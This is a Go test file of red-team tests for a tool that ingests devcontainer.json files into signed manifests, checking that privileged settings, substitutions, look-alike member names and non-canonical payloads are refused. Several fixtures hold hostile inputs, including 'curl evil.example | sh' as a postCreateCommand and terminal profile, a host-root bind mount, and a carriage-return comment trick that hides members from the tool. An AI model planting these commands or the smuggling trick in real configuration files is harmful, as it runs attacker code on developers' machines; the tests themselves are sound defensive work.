package environment

// Red-team tests for environment (branch redteam-image). TestRedteamHolds*
// are attacks that are refused; TestRedteamFinding* fail while the
// weakness they show is present.

import (
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/cordon-dev/cordon/evidence/sign"
)

// TestRedteamSubstitutionOutsideValues (red-team finding 6): ${…} and NUL
// are refused in name as in every value; in customizations they cannot
// matter, because customizations are never carried into a manifest (only
// their digest is, as customizations_ignored).
func TestRedteamSubstitutionOutsideValues(t *testing.T) {
	for name, src := range map[string]string{
		"name":            `{"image": "` + img + `", "name": "${localEnv:HOME}"}`,
		"escaped-in-name": `{"image": "` + img + `", "name": "$\u007blocalEnv:USER}"}`,
	} {
		if m, err := Ingest([]byte(src)); !errors.Is(err, ErrInvalid) {
			t.Errorf("%s: %v %v, want ErrInvalid", name, m, err)
		}
	}
	for name, src := range map[string]string{
		"customizations":      `{"image": "` + img + `", "customizations": {"vscode": {"settings": {"python.defaultInterpreterPath": "${localEnv:HOME}/.venv/bin/python"}}}}`,
		"customizations-key":  `{"image": "` + img + `", "customizations": {"${localWorkspaceFolder}": 1}}`,
		"customizations-NUL":  `{"image": "` + img + `", "customizations": {"x": "a\u0000b"}}`,
		"escaped-in-settings": `{"image": "` + img + `", "customizations": {"x": ["$\u007blocalEnv:SSH_AUTH_SOCK}"]}}`,
	} {
		m, err := Ingest([]byte(src))
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if j := string(m.JCS()); strings.Contains(j, "localEnv") || strings.Contains(j, "localWorkspaceFolder") || strings.Contains(j, `\u0000`) || !strings.Contains(j, `"customizations_ignored":"b3:`) {
			t.Errorf("%s: customizations carried: %s", name, j)
		}
	}
}

// TestRedteamCustomizationsNotCarried (red-team finding 8): what an editor
// would run or install — extensions, a terminal profile, copies of the
// refused members — never reaches a signed manifest; only the digest of
// the customizations does, so the manifest says they were left out.
func TestRedteamCustomizationsNotCarried(t *testing.T) {
	src := `{"image": "` + img + `", "customizations": {
		"vscode": {
			"extensions": ["attacker.totally-legit"],
			"settings": {"terminal.integrated.profiles.linux": {"x": {"path": "/bin/sh", "args": ["-c", "curl -s evil.example | sh"]}},
			             "terminal.integrated.defaultProfile.linux": "x",
			             "task.allowAutomaticTasks": "on"}
		},
		"postCreateCommand": "curl evil.example | sh",
		"privileged": true,
		"mounts": ["source=/,target=/host,type=bind"]
	}}`
	m, err := Ingest([]byte(src))
	if err != nil {
		t.Fatalf("refused: %v", err)
	}
	j := string(m.JCS())
	for _, bad := range []string{"attacker", "curl", "privileged", "mounts", "postCreateCommand", "terminal"} {
		if strings.Contains(j, bad) {
			t.Errorf("the manifest carries %q: %s", bad, j)
		}
	}
	other, _ := Ingest([]byte(strings.Replace(src, "totally-legit", "other", 1)))
	if other.ID() == m.ID() {
		t.Error("different customizations, same address: their digest is not recorded")
	}
}

// TestRedteamHoldsMemberSpelling: escapes, duplicates, case, Unicode
// look-alikes and comment tricks around refused and accepted members.
func TestRedteamHoldsMemberSpelling(t *testing.T) {
	for name, src := range map[string]string{
		"escaped-refused":        `{"image": "` + img + `", "\u0070rivileged": false}`,
		"escaped-dup-image":      `{"image": "` + img + `", "\u0069mage": "` + img + `"}`,
		"dup-behind-block":       `{"image": "` + img + `" /* , "image": "x" */, "image": "` + img + `"}`,
		"case-variant":           `{"image": "` + img + `", "Privileged": true}`,
		"fullwidth-i":            `{"image": "` + img + `", "ｐrivileged": true}`,
		"dotless-i-look-alike":   `{"ımage": "` + img + `"}`,
		"trailing-space-name":    `{"image": "` + img + `", "privileged ": true}`,
		"nul-in-name":            `{"image": "` + img + `", "privileged\u0000": true}`,
		"nested-refused-env":     `{"image": "` + img + `", "containerEnv": {"LD_PRELOAD": null}}`,
		"unterminated-comment":   `{"image": "` + img + `"} /*`,
		"comment-eats-brace":     `{"image": "` + img + `" // }` + "\n",
		"bom":                    "\ufeff{\"image\": \"" + img + "\"}",
		"raw-nul":                "{\"image\": \"" + img + "\"}\x00",
		"invalid-utf8-in-string": "{\"image\": \"" + img + "\", \"name\": \"\xff\"}",
		"float":                  `{"image": "` + img + `", "customizations": {"x": 1.5}}`,
		"big-int":                `{"image": "` + img + `", "customizations": {"x": 9007199254740993}}`,
		"sub-in-env":             `{"image": "` + img + `", "containerEnv": {"A": "$\u007blocalEnv:HOME}"}}`,
		"sub-in-workspace":       `{"image": "` + img + `", "workspaceFolder": "/w/${localWorkspaceFolderBasename}"}`,
		"workspace-dotdot":       `{"image": "` + img + `", "workspaceFolder": "/w/../etc"}`,
		"env-name-with-eq":       `{"image": "` + img + `", "containerEnv": {"A=B": "1"}}`,
		"user-with-colon":        `{"image": "` + img + `", "remoteUser": "root:root"}`,
		"top-array":              `[{"image": "` + img + `"}]`,
		"customizations-null":    `{"image": "` + img + `", "customizations": null}`,
	} {
		t.Run(name, func(t *testing.T) {
			m, err := Ingest([]byte(src))
			if err == nil {
				t.Errorf("accepted: %s", m.JCS())
				return
			}
			if !errors.Is(err, ErrInvalid) && !errors.Is(err, ErrRefused) {
				t.Errorf("error wraps neither ErrInvalid nor ErrRefused: %v", err)
			}
			t.Log(err)
		})
	}
}

// TestRedteamHoldsNonMembers: a refused member inside a comment or a
// string is not a member.
func TestRedteamHoldsNonMembers(t *testing.T) {
	for _, src := range []string{
		`{"image": "` + img + `", "name": "/* \"privileged\": true */"}`,
		`{"image": "` + img + `" // , "privileged": true` + "\n}",
		`{"image": "` + img + `", "name": "a // b"}`,
	} {
		m, err := Ingest([]byte(src))
		if err != nil {
			t.Errorf("%s: %v", src, err)
			continue
		}
		t.Logf("%s", m.JCS())
	}
}

// TestRedteamImageRefs: odd references that pass or fail the pattern.
func TestRedteamImageRefs(t *testing.T) {
	hex := strings.Repeat("a", 64)
	for ref, wantOK := range map[string]bool{
		"docker.io/library/alpine@sha256:" + hex:                       true,
		"localhost/x@sha256:" + hex:                                    true,
		"[::1]:5000/x@sha256:" + hex:                                   true,
		"EXAMPLE.COM/x@sha256:" + hex:                                  true, // a second spelling of a registry
		"example.com:99999/x@sha256:" + hex:                            true, // no such port
		"example.com/x:latest@sha256:" + hex:                           true, // a tag nobody reads
		"example.com/x@sha512:" + strings.Repeat("b", 128):             true,
		"alpine@sha256:" + hex:                                         false,
		"library/alpine@sha256:" + hex:                                 false,
		"example.com/x@sha256:" + strings.ToUpper(hex):                 false,
		"example.com/x@sha256:" + hex + "\n":                           false,
		"example.com/../x@sha256:" + hex:                               false,
		"example.com/x@sha256:" + hex + "@sha256:" + hex:               false,
		"example.com/X@sha256:" + hex:                                  false,
		"example.com//x@sha256:" + hex:                                 false,
		"example.com/x@md5:" + strings.Repeat("a", 32):                 false,
		"http://example.com/x@sha256:" + hex:                           false,
		"example.com/x:" + strings.Repeat("t", 129) + "@sha256:" + hex: false,
	} {
		err := checkImage(ref)
		if (err == nil) != wantOK {
			t.Errorf("checkImage(%q) = %v, want ok=%v", ref, err, wantOK)
		}
	}
}

// TestRedteamParseNonCanonical: spellings of a manifest other than its
// JCS form are refused.
func TestRedteamParseNonCanonical(t *testing.T) {
	good := `{"image":"` + img + `","name":"a","type":"cordon.env.v1"}`
	if _, err := Parse([]byte(good)); err != nil {
		t.Fatal(err)
	}
	for name, s := range map[string]string{
		"escaped-char":    `{"image":"` + img + `","name":"\u0061","type":"cordon.env.v1"}`,
		"solidus":         `{"image":"` + img + `","name":"a\/","type":"cordon.env.v1"}`,
		"trailing-nl":     good + "\n",
		"bom":             "\ufeff" + good,
		"order":           `{"name":"a","image":"` + img + `","type":"cordon.env.v1"}`,
		"empty-env":       `{"container_env":{},"image":"` + img + `","name":"a","type":"cordon.env.v1"}`,
		"empty-name":      `{"image":"` + img + `","name":"","type":"cordon.env.v1"}`,
		"empty-custom":    `{"customizations":{},"image":"` + img + `","type":"cordon.env.v1"}`,
		"devcontainer":    `{"image":"` + img + `","privileged":true,"type":"cordon.env.v1"}`,
		"camel-case":      `{"containerEnv":{"A":"1"},"image":"` + img + `","type":"cordon.env.v1"}`,
		"type-v2":         `{"image":"` + img + `","type":"cordon.env.v2"}`,
		"dup":             `{"image":"` + img + `","image":"` + img + `","type":"cordon.env.v1"}`,
		"custom-unsorted": `{"customizations":{"b":1,"a":2},"image":"` + img + `","type":"cordon.env.v1"}`,
	} {
		if _, err := Parse([]byte(s)); err == nil {
			t.Errorf("%s: Parse accepted %s", name, s)
		}
	}
}

// TestRedteamHoldsSigned: a signed manifest does not open under another
// key, with another payload type, or with a second bad signature added.
func TestRedteamHoldsSigned(t *testing.T) {
	k, _ := sign.Generate()
	other, _ := sign.Generate()
	m := mustIngest(t, `{"image": "`+img+`"}`)
	env := m.Seal(k)
	if _, err := Open(env, other.Public()); err == nil {
		t.Error("opened under another key")
	}
	if _, err := Open(sign.Seal(k, "application/vnd.cordon.run.v1+json", m.JCS()), k.Public()); err == nil {
		t.Error("opened with another payload type")
	}
	// A valid envelope of a non-canonical payload.
	if _, err := Open(sign.Seal(k, PayloadType, append(m.JCS(), '\n')), k.Public()); err == nil {
		t.Error("opened a non-canonical payload")
	}
}

// TestRedteamHoldsDeepNesting: a 1 MiB devcontainer.json of nested arrays
// is refused without a crash (canon's depth limit), though hujson's
// recursive parse first takes 1-2 s and about 1 GB of stack on it.
func TestRedteamHoldsDeepNesting(t *testing.T) {
	n := (MaxSize - 200) / 2
	src := `{"image": "` + img + `", "customizations": {"x": ` + strings.Repeat("[", n) + strings.Repeat("]", n) + `}}`
	start := time.Now()
	_, err := Ingest([]byte(src)[:min(len(src), MaxSize)])
	t.Logf("%d-deep: %v in %v", n, err != nil, time.Since(start))
	if err == nil {
		t.Error("accepted")
	}
	if time.Since(start) > 30*time.Second {
		t.Error("slow")
	}
}

// TestRedteamFindingCarriageReturnComment: hujson ends a // comment only
// at "\n"; Microsoft's jsonc-parser (the devcontainer CLI's and VS Code's
// parser) also ends it at "\r". A file whose comment is followed by "\r"
// and a member is, to the devcontainer tools, a file with that member
// (postCreateCommand, privileged), and to cordon a file without it: cordon
// ingests it without a refusal, so a "cordon env ingest" gate passes a
// devcontainer.json that runs commands when opened in VS Code or
// Codespaces. environment/testdata/redteam-jsonc.js shows jsonc-parser's
// reading (node, jsonc-parser 3.3.1).
func TestRedteamCarriageReturnComment(t *testing.T) {
	src := "{\"image\": \"" + img + "\", // see docs\r\"postCreateCommand\": \"curl evil.example | sh\", \"privileged\": true,\n}"
	m, err := Ingest([]byte(src))
	if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), "carriage return") {
		t.Errorf("ingested without refusal (jsonc-parser reads postCreateCommand and privileged here): %v %v", m, err)
	}
	for name, src := range map[string]string{
		"LS":  "{\"image\": \"" + img + "\", // see docs\u2028\"privileged\": true\n}",
		"PS":  "{\"image\": \"" + img + "\", // see docs\u2029\"privileged\": true\n}",
		"VT":  "{\"image\": \"" + img + "\"\v}",
		"end": "{\"image\": \"" + img + "\"}\r",
	} {
		if _, err := Ingest([]byte(src)); !errors.Is(err, ErrInvalid) {
			t.Errorf("%s: %v", name, err)
		}
	}
	// CRLF files are ordinary, and separators inside strings are text.
	if _, err := Ingest([]byte("{\r\n\"image\": \"" + img + "\", // c\r\n\"name\": \"a\u2028b\"\r\n}\r\n")); err != nil {
		t.Errorf("CRLF file: %v", err)
	}
}
